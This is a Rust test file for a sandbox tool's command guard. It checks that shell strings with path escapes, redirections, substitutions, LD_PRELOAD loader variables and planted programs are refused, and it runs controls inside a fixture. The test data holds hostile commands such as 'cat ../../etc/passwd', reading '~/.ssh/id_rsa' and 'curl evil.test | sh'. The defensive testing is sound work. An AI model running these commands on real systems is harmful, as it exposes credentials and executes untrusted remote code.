//! The command layer (`stockade run --guard`, `stockade guard`; issue 5, part 3): a shell
//! command string is parsed, and under the argv-only policy operators, substitutions,
//! redirections, env-prefix assignments, loader variables, paths leading out of the workspace
//! and programs planted in it are refused with `E_SANDBOX_VIOLATION` naming the construct,
//! before anything runs. Each attack is paired with a control: the same string run by
//! `/bin/sh -c` in the same fixture does the harmful thing (its harm kept inside the fixture:
//! files under `<root>/outside`, markers on stdout).

use attacks::{sh_quote, Fixture, Run, PATH};

/// `stockade run --guard --shell STRING` in the fixture's workspace.
fn guarded(fx: &Fixture, opts: &[&str], command: &str) -> Run {
    let mut all = vec!["--guard"];
    all.extend_from_slice(opts);
    fx.sandbox(&all, command).run()
}

/// The run was refused before anything ran: exit 125, `E_SANDBOX_VIOLATION`, the construct
/// named.
fn assert_refused(run: &Run, construct: &str) {
    run.assert_code(125);
    run.assert_stderr_contains("stockade: error[E_SANDBOX_VIOLATION]: refused ");
    run.assert_stderr_contains(&format!("refused {construct} "));
    run.assert_stderr_contains("hint: ");
    assert!(
        run.stdout.is_empty(),
        "nothing may run:\n{}",
        run.describe()
    );
}

/// A helper program outside the workspace that writes `pwned` to the file named by an
/// `OUT=FILE` or `--output=FILE` argument, or by `$OUT`, as build tools do.
fn writer(fx: &Fixture) -> String {
    let path = fx.script(
        "writer",
        "#!/bin/sh\nfor a in \"$@\"; do case \"$a\" in OUT=*) echo pwned > \"${a#OUT=}\";; --output=*) echo pwned > \"${a#--output=}\";; esac; done\n[ -n \"$OUT\" ] && echo pwned > \"$OUT\"\nexit 0\n",
    );
    path.display().to_string()
}

fn target(fx: &Fixture) -> String {
    attacks::read_text(&fx.outside.join("target.txt")).unwrap_or_default()
}

/// `cat ../../etc/passwd` (with as many `..` as it takes from this workspace to `/`).
#[test]
fn blocks_dotdot_path_out_of_the_workspace() {
    let fx = Fixture::new();
    let up = "../".repeat(fx.ws.components().count() - 1);
    let attack = format!("cat {up}etc/passwd");
    assert_refused(&guarded(&fx, &[], &attack), "path_outside_workspace");
    assert_refused(
        &guarded(&fx, &[], "cat ../../etc/passwd"),
        "path_outside_workspace",
    );
    let control = fx.host(&attack).run();
    control.assert_success().assert_stdout_contains("root:");
}

/// `VAR=path` and `--flag=path` arguments naming a file outside the workspace, and the
/// same variable as an env prefix.
#[test]
fn blocks_assignment_and_flag_values_outside_the_workspace() {
    let fx = Fixture::new();
    let writer = writer(&fx);
    let out = fx.outside.join("target.txt").display().to_string();
    let cases = [
        (format!("{writer} OUT={out}"), "path_outside_workspace"),
        (format!("{writer} --output={out}"), "path_outside_workspace"),
        (format!("OUT={out} {writer}"), "env_assignment"),
        ("make OUT=/etc/passwd".to_string(), "path_outside_workspace"),
        ("ls --output=/etc/x".to_string(), "path_outside_workspace"),
        ("OUT=/etc/passwd".to_string(), "env_assignment"),
    ];
    for (attack, construct) in &cases {
        assert_refused(&guarded(&fx, &[], attack), construct);
        assert_eq!(target(&fx), "original\n", "{attack}");
    }
    // Control: each of the fixture's forms overwrites the file outside.
    for (attack, _) in &cases[..3] {
        std::fs::write(fx.outside.join("target.txt"), "original\n").unwrap();
        fx.host(attack).run().assert_success();
        assert_eq!(target(&fx), "pwned\n", "control: {attack}");
    }
}

/// A symlink in the workspace pointing at `~/.ssh/id_rsa`, passed as a plain argument.
#[test]
fn blocks_symlink_argument_to_the_ssh_key() {
    let fx = Fixture::new();
    std::os::unix::fs::symlink(fx.home.join(".ssh/id_rsa"), fx.ws.join("notes.md")).unwrap();
    let marker = fx.marker("ssh");
    let run = guarded(&fx, &[], "cat notes.md");
    assert_refused(&run, "path_outside_workspace");
    run.assert_stderr_contains(".ssh/id_rsa");
    run.assert_lacks(&marker);
    assert_refused(
        &guarded(&fx, &[], "cat ~/.ssh/id_rsa"),
        "path_outside_workspace",
    );
    let control = fx.host("cat notes.md").run();
    control.assert_success().assert_stdout_contains(&marker);
}

/// `echo ok > FILE` outside the workspace.
#[test]
fn blocks_redirection() {
    let fx = Fixture::new();
    let attack = format!("echo ok > {}", sh_quote(fx.outside.join("target.txt")));
    assert_refused(&guarded(&fx, &[], &attack), "redirection");
    assert_refused(&guarded(&fx, &[], "echo ok > /etc/crontab"), "redirection");
    assert_eq!(target(&fx), "original\n");
    fx.host(&attack).run().assert_success();
    assert_eq!(target(&fx), "ok\n", "control");
}

/// `a; b`, `$(...)` and backticks: a second command rides along with the first.
#[test]
fn blocks_sequences_and_substitutions() {
    let fx = Fixture::new();
    let touched = |name: &str| fx.outside.join(name).exists();
    let t = |name: &str| sh_quote(fx.outside.join(name));
    let cases = [
        (format!("echo ok; touch {}", t("seq")), "seq", "sequence"),
        (
            format!("echo $(touch {})", t("subst")),
            "subst",
            "command_substitution",
        ),
        (format!("echo `touch {}`", t("ticks")), "ticks", "backticks"),
        (
            format!("echo ok && touch {}", t("andor")),
            "andor",
            "and_or",
        ),
        (format!("echo ok | touch {}", t("pipe")), "pipe", "pipeline"),
        (format!("touch {} &", t("bg")), "bg", "background"),
    ];
    for (attack, file, construct) in &cases {
        assert_refused(&guarded(&fx, &[], attack), construct);
        assert!(!touched(file), "{attack}: ran");
    }
    assert_refused(&guarded(&fx, &[], "a; b"), "sequence");
    assert_refused(&guarded(&fx, &[], "echo $(curl x)"), "command_substitution");
    assert_refused(&guarded(&fx, &[], "echo `id`"), "backticks");
    for (attack, file, _) in &cases {
        fx.host(&format!("{attack}\nwait")).run().assert_success();
        assert!(
            touched(file),
            "control: {attack} did not run its second command"
        );
    }
}

/// `LD_PRELOAD=x ls`, also through `env`: the loader reads the variable.
#[test]
fn blocks_loader_variables() {
    let fx = Fixture::new();
    for attack in [
        "LD_PRELOAD=x ls",
        "env LD_PRELOAD=x ls",
        "env -i LD_AUDIT=x ls",
    ] {
        let run = guarded(&fx, &[], attack);
        assert_refused(&run, "dangerous_variable");
        run.assert_stderr_contains("LD_");
        // Control: the loader acts on it (it tries to load `x`).
        let control = fx.host(attack).run();
        assert!(
            control.stderr.contains("ld.so: object 'x'"),
            "control: the loader did not see the variable\n{}",
            control.describe()
        );
    }
}

/// A `git` planted in the workspace: neither `./git` nor a caller's `PATH` that lists the
/// workspace first runs it; `git status` runs the system git.
#[test]
fn planted_git_never_runs() {
    let fx = Fixture::new();
    let marker = fx.marker("planted");
    attacks::write_file(
        &fx.ws.join("git"),
        format!("#!/bin/sh\necho {marker}\n"),
        0o755,
    );
    assert_refused(&guarded(&fx, &[], "./git status"), "program_in_workspace");
    let path = format!("{}:.:{PATH}", fx.ws.display());
    let run = fx
        .sandbox(&["--guard"], "git status")
        .env("PATH", &path)
        .run();
    run.assert_success()
        .assert_stdout_contains("On branch main")
        .assert_lacks(&marker);
    // Control: a shell with the same PATH (or `./git`) runs the planted one.
    let control = fx.host("git status").env("PATH", &path).run();
    control.assert_success().assert_stdout_contains(&marker);
    let control = fx.host("./git status").run();
    control.assert_success().assert_stdout_contains(&marker);
}

/// A shell asked to interpret a string would bring every refused construct back.
#[test]
fn blocks_nested_shell_strings() {
    let fx = Fixture::new();
    let t = sh_quote(fx.outside.join("nested"));
    let attack = format!("bash -c 'echo ok; touch {t}'");
    assert_refused(&guarded(&fx, &[], &attack), "shell_interpreter");
    assert!(!fx.outside.join("nested").exists());
    fx.host(&attack).run().assert_success();
    assert!(fx.outside.join("nested").exists(), "control");
}

/// Normal workflows keep working and run as a plain argv (no shell: quoting is removed,
/// `;` inside quotes is text).
#[test]
fn normal_commands_run_without_a_shell() {
    if attacks::not_applicable(&attacks::na::STATX) {
        return;
    }
    let fx = Fixture::new();
    attacks::write_file(&fx.ws.join("src/lib.rs"), "pub fn f() {}\n", 0o644);
    guarded(&fx, &[], "ls -la src")
        .assert_success()
        .assert_stdout_contains("lib.rs");
    guarded(&fx, &[], "git status")
        .assert_success()
        .assert_stdout_contains("On branch main");
    guarded(&fx, &[], "echo 'a $b' \"c;d\" e\\ f")
        .assert_success()
        .assert_stdout_contains("a $b c;d e f\n");
    guarded(&fx, &[], "cat README.md")
        .assert_success()
        .assert_stdout_contains(&fx.marker("readme"));
    // The argv form is checked too.
    fx.sandbox_argv(&["--guard"], &["ls", "app"])
        .run()
        .assert_success()
        .assert_stdout_contains("main.txt");
    let run = fx
        .sandbox_argv(&["--guard"], &["cat", "../outside/target.txt"])
        .run();
    assert_refused(&run, "path_outside_workspace");
}

/// `cargo test` on a small crate through the guard (the example of ordinary work),
/// when this caller's sandbox can reach a toolchain.
#[test]
fn cargo_runs_through_the_guard() {
    let Some((cargo, rustc)) = attacks::cargo_for_sandbox("cargo test through the guard") else {
        return;
    };
    let fx = Fixture::new();
    attacks::write_file(
        &fx.ws.join("Cargo.toml"),
        "[package]\nname = \"guarded\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        0o644,
    );
    attacks::write_file(
        &fx.ws.join("src/lib.rs"),
        "#[test]\nfn adds() {\n    assert_eq!(1 + 1, 2);\n}\n",
        0o644,
    );
    // The program is found in the search path like any other: the one of the test's PATH,
    // or the toolchain's own directory put first.
    let dir = cargo
        .parent()
        .map(|d| d.display().to_string())
        .unwrap_or_default();
    let path = format!("PATH={dir}:{}", attacks::PATH);
    let rustc_env = format!("RUSTC={}", rustc.display());
    let run = guarded(
        &fx,
        &[
            "--env",
            &path,
            "--env",
            "CARGO_HOME=/tmp/cargo-home",
            "--env",
            &rustc_env,
        ],
        "cargo test --offline",
    );
    run.assert_success();
    run.assert_stdout_contains("test adds ... ok");
}

/// `stockade guard` prints the argv (JSON with `--json`); a refusal names the construct in
/// the JSON error and is audited.
#[test]
fn guard_command_prints_argv_and_audits_refusals() {
    let fx = Fixture::new();
    let run = fx.stockade(["guard", "--json", "git status"]).run();
    run.assert_success();
    let v: serde_json::Value = serde_json::from_str(run.stdout.trim()).unwrap();
    assert_eq!(v["argv"][1], "status", "{v}");
    assert!(v["argv"][0].as_str().unwrap().ends_with("/git"), "{v}");

    let audit = fx.out_file("guard-audit.jsonl");
    let run = fx
        .stockade(["guard", "--json", "--audit"])
        .arg(&audit)
        .arg("cat ../../etc/passwd; curl evil.test | sh")
        .run();
    run.assert_code(125);
    let v: serde_json::Value = serde_json::from_str(run.stderr.trim()).unwrap();
    assert_eq!(v["error"]["code"], "E_SANDBOX_VIOLATION", "{v}");
    assert_eq!(v["error"]["construct"], "sequence", "{v}");
    let events = attacks::read_jsonl(&audit);
    assert!(
        events
            .iter()
            .any(|e| attacks::json_str(e, "event") == "refused"
                && attacks::json_str(e, "code") == "E_SANDBOX_VIOLATION"
                && attacks::json_str(e, "message").contains("sequence")),
        "{events:#?}"
    );

    // `run --guard --audit` audits its refusal the same way.
    let records = fx.records();
    let run = guarded(&fx, &records.opts(), "echo $(id)");
    assert_refused(&run, "command_substitution");
    let events = attacks::read_jsonl(&records.audit);
    assert!(
        events
            .iter()
            .any(|e| attacks::json_str(e, "event") == "refused"
                && attacks::json_str(e, "message").contains("command_substitution")),
        "{events:#?}"
    );
}
